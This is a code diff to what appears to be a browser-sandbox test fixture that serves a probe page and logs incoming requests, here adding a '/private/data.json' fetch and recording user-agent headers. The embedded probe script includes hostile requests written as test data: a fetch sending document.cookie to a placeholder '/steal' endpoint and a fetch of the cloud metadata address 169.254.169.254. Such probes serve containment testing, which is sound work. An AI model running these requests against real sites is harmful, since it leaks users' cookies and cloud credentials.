@@ -88,6 +88,7 @@ _PROBE = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>探测</titl
 fetch('http://169.254.169.254/latest/meta-data/').catch(function () {});
 fetch('{other}/steal?c=' + document.cookie).catch(function () {});
 fetch('/app/out').catch(function () {});
+fetch('/private/data.json').catch(function () {});
 new Image().src = '{other}/pixel.gif';
 </script></body></html>"""
 
@@ -106,6 +107,7 @@ class Hit:
     browser: bool
     navigation: bool
     cookie: str
+    agent: str
 
 
 @dataclass
@@ -149,7 +151,7 @@ def _handler(site: FixtureSite) -> type[BaseHTTPRequestHandler]:
             with site.lock:
                 site.hits.append(Hit(self.path, "sec-fetch-mode" in self.headers,
                                      self.headers.get("sec-fetch-mode") == "navigate",
-                                     self.headers.get("cookie", "")))
+                                     self.headers.get("cookie", ""), self.headers.get("user-agent", "")))
             if path.startswith("/gate/"):
                 self.gate(path)
             elif path.startswith("/app/"):
